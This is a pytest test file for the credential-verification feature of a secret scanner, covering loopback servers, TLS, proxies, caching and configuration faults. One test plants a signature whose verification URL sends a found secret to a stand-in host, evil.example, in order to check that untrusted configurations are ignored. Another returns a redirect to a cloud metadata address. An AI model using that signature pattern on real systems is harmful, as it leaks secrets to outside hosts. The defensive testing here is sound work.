"""`--verify` and what belongs to it, through the command line, at servers on loopback."""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from leakhunt import cache
from tests import tokens
from tests.git.repo import Repo
from tests.run import Result, leakhunt, report
from tests.verify.servers import Answer, Asked, certificate, raw, secured, web

LIVE: Answer = (200, {"X-OAuth-Scopes": "repo"}, {"login": "octo", "id": 1})
DEAD: Answer = (401, {}, {"message": "Bad credentials"})


def verdicts() -> list[Path]:
    return list(Path(cache.folder() or "").glob("verdicts-*"))


@pytest.fixture(autouse=True)
def _own_cache(tmp_path: Path, session_cache: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Share compiled signatures with other tests, but no verdicts."""
    own = tmp_path / "cache"
    own.mkdir(mode=0o700)
    for file in session_cache.iterdir() if session_cache.is_dir() else ():
        if not file.name.startswith(("verdicts-", ".")):
            with contextlib.suppress(OSError):
                os.link(file, own / file.name)
    monkeypatch.setenv("LEAKHUNT_CACHE", str(own))
    for name in ("http_proxy", "https_proxy", "no_proxy", "all_proxy"):
        monkeypatch.delenv(name, raising=False)
        monkeypatch.delenv(name.upper(), raising=False)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    folder = tmp_path / "project"
    folder.mkdir()
    (folder / "a.py").write_text(f"key = '{tokens.github(1)}'\n")
    return folder


def settle(folder: Path, port: int, more: str = "", scheme: str = "http") -> None:
    """Write a configuration that sends GitHub's tokens to a server on loopback."""
    (folder / "leakhunt.toml").write_text(
        f'[verify]\nallow = ["127.0.0.1"]\nrate = 1000\n{more}\n'
        f'[verify.endpoints]\ngithub = "{scheme}://127.0.0.1:{port}/api/v3"\n'
    )


def verdict(result: Result, at: int = 0) -> dict[str, Any]:
    return result.json["findings"][at]["verdict"]


def test_nobody_is_asked_without_the_option(project: Path) -> None:
    with web(lambda asked: LIVE) as asked:
        settle(project, asked.port)
        assert verdict(report("scan", cwd=project)) == {"state": "unchecked"}
        leakhunt("scan", "--verify-list", cwd=project)
    assert asked.requests == []


def test_what_is_live_says_whose_it_is(project: Path) -> None:
    with web(lambda asked: LIVE) as asked:
        settle(project, asked.port)
        found = verdict(report("scan", "--verify", cwd=project))
    assert found["state"] == "active"
    assert found["details"] == {"user": "octo", "scopes": "repo"}
    assert found["checked_at"]
    assert asked.paths == ["/api/v3/user"]
    assert asked.tokens() == [f"Bearer {tokens.github(1)}"]


@pytest.mark.parametrize(
    ("answer", "state", "said"),
    [
        (DEAD, "inactive", "refuses"),
        ((429, {"Retry-After": "0"}, ""), "unknown", "too many requests"),
        ((429, {"Retry-After": "86400"}, ""), "unknown", "too many requests"),
        ((500, {}, "oops"), "unknown", "failed (500)"),
        ((302, {"Location": "http://169.254.169.254/"}, ""), "unknown", "elsewhere"),
        ((200, {}, "<html>Sign in</html>"), "unknown", "a page for people"),
        ((200, {}, ""), "unknown", "neither"),
        ((200, {}, {"login": None}), "unknown", "neither"),
        ((403, {}, "<html>blocked</html>"), "unknown", "a page for people"),
        ((401, {}, "<html>proxy</html>"), "unknown", "a page for people"),
        ((200, {}, b"\xff\x00" * 99), "unknown", "neither"),
    ],
)
def test_every_other_answer_means_what_it_says(
    project: Path, monkeypatch: pytest.MonkeyPatch, answer: Answer, state: str, said: str
) -> None:
    monkeypatch.setattr("leakhunt.verify.pace.BACKOFF", 0.01)
    with web(lambda asked: answer) as asked:
        settle(project, asked.port)
        found = verdict(report("scan", "--verify", cwd=project))
    assert found["state"] == state
    assert said in found["reason"]
    assert set(asked.paths) == {"/api/v3/user"}, "a redirect was followed"


def test_who_answers_later_is_asked_again(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("leakhunt.verify.pace.BACKOFF", 0.01)
    answers: list[Answer] = [(503, {}, ""), (429, {}, ""), LIVE]
    with web(lambda asked: answers.pop(0)) as asked:
        settle(project, asked.port)
        assert verdict(report("scan", "--verify", cwd=project))["state"] == "active"
    assert len(asked.requests) == 3


def garbage(line: Any) -> None:
    line.recv(100)
    line.sendall(b"\x00\xff not http\r\n\r\n")


def silence(line: Any) -> None:
    while line.recv(1000):
        pass


def drip(line: Any) -> None:
    line.recv(100)
    line.sendall(b"HTTP/1.1 200 OK\r\n")
    while True:
        line.sendall(b"X: y\r\n")
        line.settimeout(0.02)
        try:
            if not line.recv(100):
                return
        except TimeoutError:
            continue


def hang_up(line: Any) -> None:
    line.recv(10)


@pytest.mark.parametrize("talk", [garbage, silence, drip, hang_up])
def test_servers_that_misbehave_are_unknown(project: Path, talk: Any) -> None:
    with raw(talk) as port:
        settle(project, port, "timeout = 0.3")
        result = report("scan", "--verify", cwd=project)
    assert verdict(result)["state"] == "unknown"
    assert "could not be asked" in verdict(result)["reason"]
    assert result.code == 1
    problem = [p for p in result.json["problems"] if p["kind"] == "verification"]
    assert problem[0]["gap"] is False
    assert tokens.github(1) not in result.out


def test_tls_is_checked(project: Path, tmp_path: Path) -> None:
    pytest.importorskip("cryptography")
    files = certificate(tmp_path)
    with web(lambda asked: LIVE, secured(files)) as asked:
        settle(project, asked.port, scheme="https")
        text = (project / "leakhunt.toml").read_text()
        trusted = f'ca_file = "{files[0]}"\n[verify.endpoints]'
        for allowed, ca, state in (
            ("127.0.0.1", "[verify.endpoints]", "unknown"),  # self-signed
            ("127.0.0.1", trusted, "unknown"),  # trusted, for another name
            ("localhost", trusted, "active"),
        ):
            changed = text.replace("//127.0.0.1", f"//{allowed}")
            (project / "leakhunt.toml").write_text(changed.replace("[verify.endpoints]", ca))
            found = verdict(report("scan", "--verify", "--no-cache", cwd=project))
            assert found["state"] == state, found
            if state == "unknown":
                assert "certificate" in found["reason"]
    assert len(asked.requests) == 1


def test_private_addresses_need_leave(project: Path) -> None:
    with web(lambda asked: LIVE) as asked:
        settle(project, asked.port)
        text = (project / "leakhunt.toml").read_text()
        for allow in ('"10.0.0.0/8"', '"127.0.0.1:1"', '"example.com"'):
            (project / "leakhunt.toml").write_text(text.replace('"127.0.0.1"', allow))
            found = verdict(report("scan", "--verify", cwd=project))
            assert found["state"] == "unknown"
            assert "was not asked" in found["reason"]
    assert asked.requests == []


def test_a_proxy_is_honoured(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    seen = []

    def proxy(line: Any) -> None:
        seen.append(line.recv(4096).split(b"\r\n")[0])
        line.sendall(b"HTTP/1.1 403 Forbidden\r\n\r\n")

    with raw(proxy) as port:
        settle(project, 9)
        monkeypatch.setenv("http_proxy", f"http://127.0.0.1:{port}")
        found = verdict(report("scan", "--verify", cwd=project))
        assert "proxy" in found["reason"]
        assert seen == [b"CONNECT 127.0.0.1:9 HTTP/1.1"]
        monkeypatch.setenv("no_proxy", "127.0.0.1")
        report("scan", "--verify", cwd=project)
        assert len(seen) == 1


def test_a_configuration_that_merely_lies_there_has_no_say(project: Path, tmp_path: Path) -> None:
    with web(lambda asked: LIVE) as asked:
        settle(project, asked.port)
        text = (project / "leakhunt.toml").read_text()
        (project / "leakhunt.toml").write_text(text.replace("[verify]", 'select=["jwt"]\n[verify]'))
        (project / "b").write_text("x")
        listed = leakhunt("scan", "--verify-list", project, cwd=tmp_path)
        assert "0 hosts" in listed.out
        (project / "leakhunt.toml").write_text(text)
        listed = leakhunt("scan", "--verify-list", project, cwd=tmp_path)
        assert "api.github.com:443" in listed.out
        assert "127.0.0.1" not in listed.out
        named = ("--config", project / "leakhunt.toml")
        listed = leakhunt("scan", "--verify-list", project, *named, cwd=tmp_path)
        assert f"127.0.0.1:{asked.port}" in listed.out
        listed = leakhunt("scan", "--verify-list", "--untrusted", ".", cwd=project)
        assert "api.github.com:443" in listed.out
        assert "127.0.0.1" not in listed.out


def test_what_was_answered_is_remembered_without_the_secret(project: Path) -> None:
    with web(lambda asked: DEAD) as asked:
        settle(project, asked.port)
        first = report("scan", "--verify", cwd=project)
        again = report("scan", "--verify", cwd=project)
        assert len(asked.requests) == 1
        assert verdict(first) == verdict(again)
        report("scan", "--verify", "--no-cache", cwd=project)
        assert len(asked.requests) == 2
    (file,) = verdicts()
    assert b"refuses" in file.read_bytes()
    assert tokens.github(1).encode() not in file.read_bytes()
    assert file.stat().st_mode & 0o077 == 0


def test_what_could_not_be_asked_is_not_remembered(project: Path) -> None:
    answers: list[Answer] = [(500, {}, ""), DEAD]
    with web(lambda asked: answers.pop(0)) as asked:
        settle(project, asked.port)
        assert verdict(report("scan", "--verify", cwd=project))["state"] == "unknown"
        assert verdict(report("scan", "--verify", cwd=project))["state"] == "inactive"
        assert len(asked.requests) == 2


def test_only_and_fail_on_choose_by_verdict(project: Path) -> None:
    (project / "b.py").write_text(f"key = '{tokens.github(2)}'\n")

    def answer(asked: Asked) -> Answer:
        return LIVE if asked.tokens()[-1].endswith(tokens.github(2)) else DEAD

    with web(answer) as asked:
        settle(project, asked.port)
        only = report("scan", "--verify", "--only", "active", cwd=project)
        assert [f["locations"][0]["path"] for f in only.json["findings"]] == ["b.py"]
        assert "1 finding left out" in str(only.json["problems"])
        assert only.code == 1
        assert leakhunt("scan", "--verify", "--fail-on", "active", cwd=project).code == 1
        (project / "b.py").unlink()
        assert leakhunt("scan", "--verify", "--fail-on", "active", cwd=project).code == 0
        assert leakhunt("scan", "--verify", "--only", "active", cwd=project).code == 0
        text = (project / "leakhunt.toml").read_text()
        (project / "leakhunt.toml").write_text(f'fail_on = "active"\n{text}')
        assert leakhunt("scan", "--verify", cwd=project).code == 0


@pytest.mark.parametrize("option", [("--fail-on", "active"), ("--only", "active")])
@pytest.mark.parametrize(
    "answer",
    [
        (500, {}, ""),
        (302, {"Location": "https://login.corp.example/"}, ""),
        (200, {}, "<html>Sign in to this network</html>"),
    ],
)
def test_what_could_not_be_asked_is_no_clean_result(
    project: Path, option: tuple[str], answer: Answer
) -> None:
    with web(lambda asked: answer) as asked:
        settle(project, asked.port)
        assert leakhunt("scan", "--verify", *option, cwd=project).code == 2
        assert leakhunt("scan", "--verify", *option, "--allow-gaps", cwd=project).code == 0


@pytest.fixture
def answered(project: Path) -> Iterator[Path]:
    with web(lambda asked: LIVE) as asked:
        settle(project, asked.port)
        yield project


def test_verdicts_are_in_every_format(answered: Path) -> None:
    def told(name: str) -> str:
        return leakhunt("scan", "--verify", "-f", name, "-j", "1", cwd=answered).out

    assert "active" in told("terminal")
    assert "user octo, scopes repo" in told("terminal")
    assert json.loads(told("jsonl").splitlines()[0])["verdict"]["state"] == "active"
    (result,) = json.loads(told("sarif"))["runs"][0]["results"]
    assert result["level"] == "error"
    assert result["properties"]["verdict"] == "active"
    assert result["properties"]["verdict_details"] == {"scopes": "repo"}
    assert "The credential is active" in result["message"]["text"]
    assert "active: the provider accepts it" in told("github")
    assert ",active," in told("csv")


def test_history_and_the_index_are_verified_too(answered: Path) -> None:
    repo = Repo.init(answered)
    repo.git("add", "-A")
    assert verdict(report("staged", "--verify", cwd=answered))["state"] == "active"
    repo.git("-c", "user.name=A", "-c", "user.email=a@b.c", "commit", "-qm", "x")
    assert verdict(report("history", "--verify", cwd=answered))["state"] == "active"
    assert verdict(report("audit", "--verify", cwd=answered))["state"] == "active"
    found = report("history", cwd=answered).json["findings"][0]
    assert found["properties"]["age_days"] >= 0


def test_a_hook_has_no_such_option(project: Path) -> None:
    assert leakhunt("hook", "--verify", cwd=project).code == 2


def test_a_report_is_verified_again(project: Path) -> None:
    live = [True]
    with web(lambda asked: LIVE if live[0] else DEAD) as asked:
        settle(project, asked.port)
        (project / "gone.py").write_text(f"key = '{tokens.github(3)}'\n")
        first = report("scan", "-o", "r.json", cwd=project)
        assert first.code == 1
        assert tokens.github(1) not in (project / "r.json").read_text()
        (project / "gone.py").unlink()
        again = report("verify", "r.json", cwd=project)
        states = {f["locations"][0]["path"]: f["verdict"]["state"] for f in again.json["findings"]}
        assert states == {"a.py": "active", "gone.py": "unknown"}
        live[0] = False
        later = report("verify", "r.json", "--no-cache", "--only", "inactive", cwd=project)
        assert len(later.json["findings"]) == 1
        listed = leakhunt("verify", "r.json", "--verify-list", cwd=project)
        assert f"127.0.0.1:{asked.port}" in listed.out
    assert asked.tokens() == [f"Bearer {tokens.github(1)}"] * 2


def test_a_report_of_a_history_is_verified_again(project: Path) -> None:
    repo = Repo.init(project)
    repo.git("config", "user.name", "A")
    repo.git("config", "user.email", "a@b.c")
    repo.git("add", "a.py")
    repo.git("commit", "-qm", "x")
    repo.git("rm", "-q", "a.py")
    repo.git("commit", "-qm", f"also {tokens.github(4)}")
    with web(lambda asked: LIVE) as asked:
        settle(project, asked.port)
        report("history", "-o", "../r.json", cwd=project)
        again = report("verify", "../r.json", ".", cwd=project)
    assert [f["verdict"]["state"] for f in again.json["findings"]] == ["active", "active"]


@pytest.mark.parametrize(
    "text", ["", "[]", "{}", '{"findings": 3}', '{"findings": [{"id": 1}]}', "\xff", "not json"]
)
def test_what_is_no_report_is_said_so(project: Path, text: str) -> None:
    (project / "r.json").write_text(text, "latin-1")
    result = leakhunt("verify", "r.json", cwd=project)
    assert result.code == 2
    assert "report" in result.err
    assert leakhunt("verify", "nowhere.json", cwd=project).code == 2


def test_ten_thousand_findings_of_500_secrets_cost_500_requests(project: Path) -> None:
    (project / "a.py").unlink()
    values = [tokens.github(seed) for seed in range(500)]
    for number in range(20):
        lines = "".join(f"k{at} = '{value}'\n" for at, value in enumerate(values))
        (project / f"f{number}.py").write_text(lines)
    with web(lambda asked: DEAD) as asked:
        settle(project, asked.port)
        result = report("scan", "--verify", cwd=project)
    assert len(asked.requests) == 500
    assert len(set(asked.tokens())) == 500
    found = result.json["findings"]
    assert sum(len(one["locations"]) for one in found) == 10_000
    assert {one["verdict"]["state"] for one in found} == {"inactive"}


def test_a_host_that_is_down_is_left_alone(project: Path) -> None:
    (project / "a.py").write_text("".join(f"k = '{tokens.github(n)}'\n" for n in range(60)))
    tried = []

    def refuse(line: Any) -> None:
        tried.append(1)

    with raw(refuse) as port:
        settle(project, port, "concurrency = 1")
        result = report("scan", "--verify", cwd=project)
    assert len(tried) == 5
    assert {f["verdict"]["state"] for f in result.json["findings"]} == {"unknown"}


def test_max_age_makes_what_was_not_rotated_worse(project: Path) -> None:
    (project / "a.py").write_text(f"key = '{tokens.github(1, 'ghs')}'\n")
    repo = Repo.init(project)
    repo.git("config", "user.name", "A")
    repo.git("config", "user.email", "a@b.c")
    repo.git("add", "a.py")
    repo.git("commit", "-qm", "x", "--date", "2020-01-01T00:00:00Z")
    plain = report("history", cwd=project).json["findings"][0]
    assert plain["severity"] == "high"
    assert plain["properties"]["age_days"] > 2000
    (project / "leakhunt.toml").write_text("max_age = 90\n")
    worse = report("history", cwd=project).json["findings"][0]
    assert worse["severity"] == "critical"
    assert "not rotated for" in worse["reasons"][0]
    (project / "leakhunt.toml").write_text("max_age = 90000\n")
    assert report("history", cwd=project).json["findings"][0]["severity"] == "high"


@pytest.mark.parametrize(
    ("text", "line", "said"),
    [
        ("[verify]\nalow = []", 2, "unknown key 'alow'"),
        ('[verify]\n\nallow = ["a b"]', 3, "neither a host nor an address"),
        ('[verify.endpoints]\ngithub = "x"', 2, "no base URL"),
        ("max_age = -1", 1, "number of days"),
        ("verify = 3", 1, "no table"),
    ],
)
def test_faults_of_the_configuration(project: Path, text: str, line: int, said: str) -> None:
    (project / "leakhunt.toml").write_text(text)
    result = leakhunt("scan", cwd=project)
    assert result.code == 2
    assert f"leakhunt.toml:{line}:" in result.err
    assert said in result.err


@pytest.mark.skipif(os.name == "nt", reason="needs signals")
def test_ctrl_c_ends_at_any_time(project: Path) -> None:
    there = threading.Event()

    def talk(line: Any) -> None:
        there.set()
        silence(line)

    with raw(talk) as port:
        settle(project, port, "timeout = 60")
        command = [sys.executable, "-m", "leakhunt", "scan", "--verify"]
        running = subprocess.Popen(
            command, cwd=project, stdout=subprocess.PIPE, stderr=subprocess.PIPE
        )
        assert there.wait(60)
        running.send_signal(signal.SIGINT)
        out, err = running.communicate(timeout=60)
    assert running.returncode == 130
    assert (out, err.strip()) == (b"", b"leakhunt: interrupted")


def test_a_password_is_asked_of_its_own_host(project: Path) -> None:
    (project / "a.py").write_text(
        'A = "redis://:K3q9zt7w1m5xQ@127.0.0.1:PORT/0"\n'
        'B = "redis://:K3q9zt7w1m5xQ@redis.prod-eu.net:6379/1"\n'
    )

    def talk(line: Any) -> None:
        line.recv(1000)
        line.sendall(b"+OK\r\n")

    with raw(talk) as port:
        text = (project / "a.py").read_text().replace("PORT", str(port))
        (project / "a.py").write_text(text)
        settle(project, port)
        result = report("scan", "--verify", "--min-confidence", "low", cwd=project)
    states = {f["signature"]: f["verdict"] for f in result.json["findings"]}
    assert states["redis-uri-local"]["state"] == "active"
    assert states["redis-uri"]["state"] == "unknown"
    assert "redis.prod-eu.net was not asked" in states["redis-uri"]["reason"]


def test_a_signature_that_came_along_sends_nothing(project: Path, tmp_path: Path) -> None:
    (project / "leakhunt.toml").write_text('signatures = ["evil.toml"]')
    (project / "evil.toml").write_text(
        '[provider]\nname = "E"\nremediation = "r"\nreferences = ["https://evil.example"]\n'
        '[[signature]]\nid = "evil"\ntitle = "x"\nseverity = "high"\nconfidence = "high"\n'
        "pattern = '(?P<secret>zzz_[a-z0-9]{20})'\nexamples = ['x']\ncounterexamples = ['y']\n"
        '[[verification]]\nsignatures = ["evil"]\nreference = "https://evil.example"\n'
        'url = "https://evil.example/${secret}"\nactive = { json = { id = "*" } }\n'
        "inactive = { status = [401] }\nlive = { json = { id = 1 } }\ndead = { status = 401 }\n"
    )
    (project / "a.py").write_text('k = "zzz_k3q9zt7w1m5x8v2b4n6c"\n')
    assert "evil.example" not in leakhunt("scan", project, "--verify-list", cwd=tmp_path).out
    assert "evil.example:443" in leakhunt("scan", "--verify-list", cwd=project).out
